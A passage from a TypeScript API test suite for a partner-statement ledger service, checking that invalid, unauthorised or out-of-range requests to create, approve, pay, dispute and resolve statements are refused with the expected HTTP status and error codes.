      payment: { paymentReference: 'SEPA-2026-04-0003', paidAt: '2026-04-03', amount: '500.00' },
    });
  });

  it('refuses what a client may not do, naming the rule or the field, and writes nothing', async () => {
    const id = await issuedQ1ForAcme();
    const line = (await statement(id)).lines[0]!.lineId;
    const post =
      (path: string, body: unknown, as = fiona()) =>
      () =>
        ledger.http
          .post(path)
          .set(as)
          .send(body as object);

    await refused(post('/statements', { partnerId: 'acme', period: '2026-Q5' }), 400, 'VALIDATION_FAILED');
    await refused(post('/statements', { partnerId: 'acme' }), 400, 'VALIDATION_FAILED');
    await refused(post('/statements', { partnerId: 'acme', period: '2026-Q2', extra: 1 }), 400, 'VALIDATION_FAILED');
    await refused(post('/statements', { partnerId: 'nobody', period: '2026-Q1' }), 404, 'PARTNER_NOT_FOUND');
    await refused(post('/statements', { partnerId: 'acme', period: '2026-Q3' }), 422, 'STATEMENT_PERIOD_NOT_CLOSED');
    await refused(post('/statements', { partnerId: 'acme', period: '2026-Q1' }, partnerUser('acme')), 403, 'FORBIDDEN');
    await refused(post(`/statements/${id}/approve`, {}, ledger.auth('auditor', 'aude')), 403, 'FORBIDDEN');
    await refused(post(`/statements/${id}/approve`, { note: 'x' }, frank()), 400, 'VALIDATION_FAILED');
    await refused(post('/statements/not-a-statement/approve', {}, frank()), 400, 'VALIDATION_FAILED');
    await refused(post('/statements/acme-2025-Q4/approve', {}, frank()), 404, 'STATEMENT_NOT_FOUND');
    await refused(post(`/statements/${id}/pay`, { paymentReference: '   ' }), 400, 'VALIDATION_FAILED');
    await refused(post(`/statements/${id}/lines/${line}/dispute`, { reason: 'x' }, fiona()), 403, 'FORBIDDEN');
    await refused(
      post(`/statements/${id}/lines/no-such-line/dispute`, { reason: 'Why?' }, partnerUser('acme')),
      404,
      'STATEMENT_LINE_NOT_FOUND',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/dispute`, { reason: '' }, partnerUser('acme')),
      400,
      'VALIDATION_FAILED',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'upheld' }),
      409,
      'STATEMENT_DISPUTE_NOT_OPEN',
    );

    track(
      await ledger.http
        .post(`/statements/${id}/lines/${line}/dispute`)
        .set(partnerUser('acme'))
        .send({ reason: 'Rate should be 6%' })
        .expect(200),
    );
    await refused(
      post(`/statements/${id}/lines/${line}/dispute`, { reason: 'Again' }, partnerUser('acme')),
      409,
      'STATEMENT_LINE_ALREADY_DISPUTED',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted', adjustment: 100 }),
      400,
      'VALIDATION_FAILED',
    );
    await refused(post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted' }), 400, 'VALIDATION_FAILED');
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted', adjustment: '0.00' }),
      400,
      'AMOUNT_INVALID',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted', adjustment: '1.005' }),
      400,
      'AMOUNT_INVALID',
    );
    // The review's adjustment: far past what a 64-bit integer of cents holds, and past the disputed 500.00 line.
    const huge = () =>
      ledger.http
        .post(`/statements/${id}/lines/${line}/resolve`)
        .set(fiona())
        .send({ outcome: 'adjusted', adjustment: '-999999999999999999999.99' });
    await refused(huge, 400, 'VALIDATION_FAILED');
    expect((await huge()).body.details.fields).toEqual([
      expect.objectContaining({ field: 'adjustment', message: expect.stringContaining('must be below 1000000000000') }),
    ]);
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted', adjustment: '-500.01' }),
      422,
      'STATEMENT_ADJUSTMENT_EXCEEDS_LINE',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'adjusted', adjustment: '500.01' }),
      422,
      'STATEMENT_ADJUSTMENT_EXCEEDS_LINE',
    );
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'upheld', adjustment: '5.00' }),
      400,
      'VALIDATION_FAILED',
    );
    await refused(post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'withdrawn' }), 400, 'VALIDATION_FAILED');
    await refused(
      post(`/statements/${id}/lines/${line}/resolve`, { outcome: 'upheld' }, partnerUser('acme')),
      403,
      'FORBIDDEN',
    );
    track(
      await ledger.http
        .post(`/statements/${id}/lines/${line}/resolve`)
        .set(frank())
        .send({ outcome: 'upheld', note: 'The rate was 5%' })
        .expect(200),
    );
    expect((await statement(id)).disputes).toMatchObject([{ status: 'resolved', outcome: 'upheld', adjustment: null }]);

    await refused(() => ledger.http.get('/statements?period=2026-Q9').set(fiona()), 400, 'VALIDATION_FAILED');
    await refused(() => ledger.http.get('/statements?format=xml').set(fiona()), 400, 'VALIDATION_FAILED');
    await refused(() => ledger.http.get('/statements?partnerId=nobody').set(fiona()), 404, 'PARTNER_NOT_FOUND');
    await refused(() => ledger.http.get('/statements').set(manager()), 403, 'FORBIDDEN');
    await refused(() => ledger.http.get('/statements/acme-2026-Q2').set(fiona()), 404, 'STATEMENT_NOT_FOUND');
  });
});
